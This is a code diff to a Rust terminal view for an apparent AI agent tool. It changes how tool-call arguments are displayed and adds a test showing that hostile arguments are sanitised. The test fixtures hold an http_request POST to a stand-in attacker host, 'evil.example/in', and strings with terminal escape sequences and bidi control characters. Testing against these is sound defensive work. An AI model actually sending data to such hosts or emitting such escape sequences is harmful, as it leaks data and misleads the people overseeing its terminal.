@@ -2,6 +2,7 @@
 
 use super::screen::{Screen, Style};
 use super::text::{self, Usage, grouped, one_line};
+use oneclaw_agent::tools::shown;
 use oneclaw_agent::{ErrorCode, Event};
 use oneclaw_model::ToolStatus;
 use std::io;
@@ -15,7 +16,7 @@ pub const TRIMMED: &str = "Conversation history has been automatically trimmed";
 /// Who waits longer than that is told what for.
 const PATIENCE: Duration = Duration::from_secs(1);
 /// The longest arguments and names that are shown.
-const MOST_ARGUMENTS: usize = 72;
+const MOST_ARGUMENTS: usize = 120;
 const MOST_NAME: usize = 32;
 const FRAMES: [char; 10] = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'];
 
@@ -254,7 +255,8 @@ impl View {
 
 fn call_line(call: &Call) -> String {
     let name = one_line(&call.name, MOST_NAME);
-    let line = format!("→ {name} {}", text::arguments(&call.arguments, MOST_ARGUMENTS));
+    let arguments = one_line(&shown(&call.name, &call.arguments), MOST_ARGUMENTS);
+    let line = format!("→ {name} {arguments}");
     line.trim_end().to_owned()
 }
 
@@ -355,6 +357,27 @@ mod tests {
              Optimizing conversation context...\nContext optimized: 1,512 → 640 tokens (prose)\n\
              Conversation history has been automatically trimmed (1,512 → 640 tokens)\n\
              ▕████░░░░░░▏ 640 / 2,000 tokens (system 100 · tools 200 · summary 140 · messages 200)\n"
+        );
+    }
+
+    #[test]
+    fn a_call_shows_on_what_it_acts_and_cannot_steer_the_terminal() {
+        let line = |name: &str, arguments: serde_json::Value| {
+            let arguments = arguments.to_string();
+            call_line(&Call { id: String::new(), name: name.to_owned(), arguments, has_ended: false })
+        };
+        let body = "please ".repeat(100);
+        let asked = serde_json::json!({"body": body, "method": "POST", "url": "https://evil.example/in"});
+        assert_eq!(
+            line("http_request", asked),
+            "→ http_request POST evil.example/in body=\"please ple…ase please \""
+        );
+        let hostile =
+            serde_json::json!({"\u{1b}[2J\u{202e}": "\u{9b}31m\u{7f}\r\n", "path": "a\u{1b}[1m\nb"});
+        let shown = line("read\u{1b}_file\n", hostile);
+        assert_eq!(
+            shown,
+            "→ read␛_file path=\"a\\u001b[1m\\nb\" \"\\u001b[2J\u{fffd}\"=\"\u{fffd}31m␡\\r\\n\""
         );
     }
 
